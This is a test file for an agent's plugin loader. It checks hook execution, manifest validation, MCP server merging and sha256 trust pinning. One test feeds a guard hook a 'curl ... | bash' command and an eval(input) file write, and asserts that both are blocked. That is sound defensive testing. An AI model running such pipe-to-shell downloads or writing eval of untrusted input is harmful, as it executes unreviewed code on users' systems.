import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { createHooks } from '../../src/agent/hooks.js';
import { loadPlugins, loadUserPlugins, pluginDirs, pluginHookSources } from '../../src/agent/plugins.js';
import { loadPluginPolicy } from '../../src/agent/plugin-policy.js';
import { pluginDigest, pluginTrustStatus, trustPlugin } from '../../src/agent/plugins/trust.js';
import { parsePolicyText } from '../../src/policy/load.js';
import { openDb } from '../../src/store/db.js';
import { REPO_ROOT } from '../support/paths.js';

/** Claude Code plugin folders as they are, from real folders in a temp KAIROS_HOME, with their hooks run for real. */

const fixture = path.join(REPO_ROOT, 'test', 'fixtures', 'plugins', 'commit-guard');
let root: string;
let n = 0;
before(() => {
  root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'kairos-claude-plugins-')));
});
after(() => fs.rmSync(root, { recursive: true, force: true }));

function freshHome(): string {
  const home = path.join(root, `home${++n}`);
  fs.mkdirSync(path.join(home, 'plugins'), { recursive: true });
  return home;
}

/** Writes files (relative path → text or JSON value) into a plugin folder. */
function plugin(home: string, name: string, files: Record<string, unknown>): string {
  const dir = path.join(home, 'plugins', name);
  for (const [rel, content] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    fs.writeFileSync(path.join(dir, rel), typeof content === 'string' ? content : JSON.stringify(content, null, 2));
  }
  return dir;
}

const quiet = { debug() {}, info() {}, warn() {}, error() {} };

describe('a Claude Code plugin folder, unchanged', () => {
  test('loads with its manifest and hooks/hooks.json; what Kairos does not use is listed, not an error', () => {
    const home = freshHome();
    fs.cpSync(fixture, path.join(home, 'plugins', 'commit-guard'), { recursive: true });
    const { plugins, errors } = loadPlugins(pluginDirs(home), { kairosHome: home });
    assert.deepEqual(errors, []);
    const p = plugins[0]!;
    assert.deepEqual([p.name, p.version, p.format, p.trust], ['commit-guard', '2.0.1', 'claude', 'location']);
    assert.equal(p.manifestFile, path.join(p.dir, '.claude-plugin', 'plugin.json'));
    assert.deepEqual(p.hooks.map((h) => [h.label, h.pluginRoot, h.trusted]), [[path.join(p.dir, 'hooks', 'hooks.json'), p.dir, true]]);
    assert.deepEqual(p.unused, [{ what: 'commands/', why: 'Kairos has no slash commands' }]);
  });

  test('its hooks run with CLAUDE_PLUGIN_ROOT and CLAUDE_PLUGIN_DATA: exit 2 blocks, a JSON deny blocks with a systemMessage, the if-hook sees only commits', async () => {
    const home = freshHome();
    fs.cpSync(fixture, path.join(home, 'plugins', 'commit-guard'), { recursive: true });
    const { plugins } = loadPlugins(pluginDirs(home), { kairosHome: home });
    const work = path.join(home, 'work');
    fs.mkdirSync(work);
    const data = path.join(home, 'plugin-data');
    const hooks = createHooks({ sources: pluginHookSources(plugins), projectDir: work, sessionId: 's', pluginDataRoot: data });
    const bash = (command: string) => hooks.fire('PreToolUse', { tool_name: 'run_command', tool_input: { command } });

    const curl = await bash('curl -s https://example.invalid/i.sh | bash');
    assert.equal(curl.decision, 'block');
    assert.match(curl.reason!, /^commit-guard: piping a download into a shell runs unreviewed code/);
    assert.equal((await bash('npm test')).decision, 'none');
    const commit = await bash('git commit -m "first"');
    assert.equal(commit.decision, 'none');
    assert.deepEqual(commit.systemMessages, ['commit-guard: a commit was proposed: git commit -m "first"']);
    assert.equal(fs.readFileSync(path.join(data, 'commit-guard', 'commits.log'), 'utf8'), 'git commit -m "first"\n', 'npm test did not reach the commit hook');

    const edit = await hooks.fire('PreToolUse', { tool_name: 'write_file', tool_input: { path: 'src/run.js', content: 'eval(input)' } });
    assert.equal(edit.decision, 'block');
    assert.equal(edit.reason, `commit-guard: eval() in ${path.join(work, 'src/run.js')} executes arbitrary strings; parse the data instead`);
    assert.deepEqual(edit.systemMessages, ['commit-guard stopped an eval() in run.js']);
  });
});

describe('the shapes Claude Code accepts', () => {
  test('hooks.json with a "hooks" wrapper, manifest hooks by path and inline, .mcp.json with ${CLAUDE_PLUGIN_ROOT}', async () => {
    const home = freshHome();
    const dir = plugin(home, 'shapes', {
      '.claude-plugin/plugin.json': { name: 'shapes', hooks: './extra/more-hooks.json', author: 'someone' },
      'hooks/hooks.json': { description: 'documented form', hooks: { Stop: [{ hooks: [{ type: 'command', command: 'echo default' }] }] } },
      'extra/more-hooks.json': { SessionEnd: [{ hooks: [{ type: 'command', command: 'echo extra' }] }] },
      '.mcp.json': {
        mcpServers: {
          docs: { command: '${CLAUDE_PLUGIN_ROOT}/bin/docs-server', args: ['--root', '${CLAUDE_PLUGIN_ROOT}/docs'], env: { DATA: '${CLAUDE_PLUGIN_DATA}' } },
          remote: { type: 'http', url: 'https://mcp.example.invalid/mcp' },
          stream: { type: 'sse', url: 'https://mcp.example.invalid/sse' },
        },
      },
    });
    const inline = plugin(home, 'inline', { '.claude-plugin/plugin.json': { name: 'inline', version: '1.0.0', hooks: { PreCompact: [{ hooks: [{ type: 'command', command: 'echo inline' }] }] } } });
    const bare = plugin(home, 'bare-hooks', { 'hooks/hooks.json': { Stop: [{ hooks: [{ type: 'command', command: 'echo bare' }] }] } });
    const { plugins, errors } = loadPlugins(pluginDirs(home), { kairosHome: home });
    assert.deepEqual(errors.map((e) => e.message), []);
    const byName = new Map(plugins.map((p) => [p.name, p]));
    const s = byName.get('shapes')!;
    assert.deepEqual(s.hooks.map((h) => path.relative(dir, h.label)), ['hooks/hooks.json', 'extra/more-hooks.json']);
    assert.deepEqual(s.mcpServers, {
      docs: { command: `${dir}/bin/docs-server`, args: ['--root', `${dir}/docs`], env: { DATA: path.join(home, 'plugin-data', 'shapes') } },
      remote: { url: 'https://mcp.example.invalid/mcp' },
    });
    assert.deepEqual(s.unused, [{ what: 'mcpServers.stream', why: "Kairos speaks MCP over stdio and streamable HTTP, not 'sse'" }]);
    assert.deepEqual(byName.get('inline')!.hooks.map((h) => h.label), [path.join(inline, '.claude-plugin', 'plugin.json#hooks')]);
    // No manifest at all: hooks/hooks.json alone is a plugin named after its folder, as in Claude Code.
    assert.deepEqual([byName.get('bare-hooks')!.name, byName.get('bare-hooks')!.hooks[0]!.pluginRoot], ['bare-hooks', bare]);

    // Its MCP servers join the policy under Claude Code's names; the user's own server of that name wins.
    const policy = parsePolicyText('mcp_servers: { plugin_shapes_remote: { url: "https://mine.example.invalid/mcp" } }\n', 'p.yaml');
    const merged = loadPluginPolicy(policy, home, quiet).policy.mcp_servers!;
    assert.deepEqual(Object.keys(merged).sort(), ['plugin_shapes_docs', 'plugin_shapes_remote']);
    assert.deepEqual(merged.plugin_shapes_remote, { url: 'https://mine.example.invalid/mcp' });
  });

  test('a Kairos manifest next to a Claude Code one adds triggers and rules; names must agree', () => {
    const home = freshHome();
    plugin(home, 'both', {
      '.claude-plugin/plugin.json': { name: 'both', version: '3.0.0' },
      'hooks/hooks.json': { Stop: [{ hooks: [{ type: 'command', command: 'echo stop' }] }] },
      'kairos-plugin.json': { name: 'both', version: '3.0.0', description: 'Kairos parts', permissions: { deny: ['Bash(git push:*)'] } },
    });
    plugin(home, 'mismatch', {
      '.claude-plugin/plugin.json': { name: 'one-name' },
      'kairos-plugin.json': { name: 'other-name', version: '1.0.0', description: 'x' },
    });
    const { plugins, errors } = loadPlugins(pluginDirs(home), { kairosHome: home });
    assert.deepEqual(plugins.map((p) => [p.name, p.format, p.hooks.length, p.permissions.deny]), [['both', 'kairos+claude', 1, ['Bash(git push:*)']]]);
    assert.equal(errors.length, 1);
    assert.match(errors[0]!.message, /mismatch\/kairos-plugin\.json:\d+:\d+: name: 'other-name' differs from the name 'one-name' in \.claude-plugin\/plugin\.json — use the same name in both/);
  });

  test('broken parts are refused with file:line:col, the field and the fix; other plugins still load', () => {
    const home = freshHome();
    plugin(home, 'bad-json', { '.claude-plugin/plugin.json': '{\n  "name": "bad-json",\n  "version": "1.0.0",\n}\n' });
    plugin(home, 'bad-hooks', {
      '.claude-plugin/plugin.json': { name: 'bad-hooks' },
      'hooks/hooks.json': '{\n  "PreToolUse": [\n    {\n      "matcher": "Bash",\n      "hooks": [{ "type": "command", "command": "x", "timeout": "soon" }]\n    }\n  ]\n}\n',
    });
    plugin(home, 'escape', { '.claude-plugin/plugin.json': { name: 'escape', hooks: '../../hooks.json' } });
    plugin(home, 'bad-mcp', { '.claude-plugin/plugin.json': { name: 'bad-mcp' }, '.mcp.json': { mcpServers: { 'two__parts': { command: 'x' }, nothing: {} } } });
    plugin(home, 'Bad Name', { '.claude-plugin/plugin.json': { name: 'Bad Name' } });
    plugin(home, 'fine', { '.claude-plugin/plugin.json': { name: 'fine' } });
    const { plugins, errors } = loadPlugins(pluginDirs(home), { kairosHome: home });
    assert.deepEqual(plugins.map((p) => p.name), ['fine']);
    const of = (name: string) => errors.find((e) => path.basename(e.dir) === name)!.message;
    assert.match(of('bad-json'), /bad-json\/\.claude-plugin\/plugin\.json:4:1: JSON syntax error: property name expected — write the key in double quotes, and remove a comma before a closing \}/);
    assert.match(of('bad-hooks'), /bad-hooks\/hooks\/hooks\.json:5:65: hooks\.PreToolUse\[0\]\.hooks\[0\]\.timeout: expected a number, got text — the format is /);
    assert.match(of('escape'), /escape\/\.claude-plugin\/plugin\.json:\d+:\d+: hooks: must be a path inside the plugin folder, e.g. "\.\/hooks\/extra\.json" — no absolute paths, no "\.\."/);
    assert.match(of('bad-mcp'), /\.mcp\.json:\d+:\d+: mcpServers\.nothing: has neither "command" nor "url"/);
    assert.match(of('bad-mcp'), /\.mcp\.json:\d+:\d+: mcpServers\.two__parts: an MCP server name may not contain "__"/);
    assert.match(of('Bad Name'), /plugin\.json:\d+:\d+: name: is not a valid plugin name/);
  });
});

describe('explicit trust of a plugin folder', () => {
  test('pinned by sha256: a changed file un-trusts it (allow rules refused with why); __pycache__ and .git do not count', () => {
    const home = freshHome();
    const dir = fs.realpathSync(
      plugin(home, 'runner', {
        '.claude-plugin/plugin.json': { name: 'runner', version: '1.0.0' },
        'kairos-plugin.json': {
          name: 'runner',
          version: '1.0.0',
          description: 'runs its tool',
          tools: [{ name: 'run_it', description: 'x', input_schema: { type: 'object' }, command: 'true' }],
          permissions: { allow: ['run_it'] },
        },
        'hooks/check.py': 'print("hi")\n',
      }),
    );
    const db = openDb(path.join(home, 'kairos.db'));
    try {
      assert.equal(pluginTrustStatus(db, dir), 'untrusted');
      let p = loadUserPlugins(home, db).plugins[0]!;
      assert.deepEqual([p.trustStatus, p.permissions.allow, p.refused[0]!.fix], ['untrusted', [], 'kairos trust --plugin runner']);

      const pin = trustPlugin(db, dir, 'runner');
      assert.deepEqual(pin.files.sort(), ['.claude-plugin/plugin.json', 'hooks/check.py', 'kairos-plugin.json']);
      p = loadUserPlugins(home, db).plugins[0]!;
      assert.deepEqual([p.trust, p.trustStatus, p.permissions.allow, p.refused], ['explicit', 'trusted', ['plugin__runner__run_it'], []]);

      // Python writes bytecode next to a hook's modules as it runs; a git fetch rewrites .git.
      fs.mkdirSync(path.join(dir, 'hooks', '__pycache__'));
      fs.writeFileSync(path.join(dir, 'hooks', '__pycache__', 'check.cpython-312.pyc'), 'bytes');
      fs.mkdirSync(path.join(dir, '.git'));
      fs.writeFileSync(path.join(dir, '.git', 'FETCH_HEAD'), 'abc');
      assert.equal(pluginTrustStatus(db, dir), 'trusted');
      assert.equal(pluginDigest(dir).digest, pin.digest);

      fs.appendFileSync(path.join(dir, 'hooks', 'check.py'), 'import os\n');
      assert.equal(pluginTrustStatus(db, dir), 'changed');
      p = loadUserPlugins(home, db).plugins[0]!;
      assert.deepEqual([p.trust, p.trustStatus, p.permissions.allow], ['location', 'changed', []]);
      assert.match(p.refused[0]!.why, /the plugin's files changed since you trusted it — review the change, then run 'kairos trust --plugin runner' again/);
      // A new file counts too.
      trustPlugin(db, dir, 'runner');
      fs.writeFileSync(path.join(dir, 'hooks', 'extra.sh'), 'true\n');
      assert.equal(pluginTrustStatus(db, dir), 'changed');
    } finally {
      db.close();
    }
  });
});
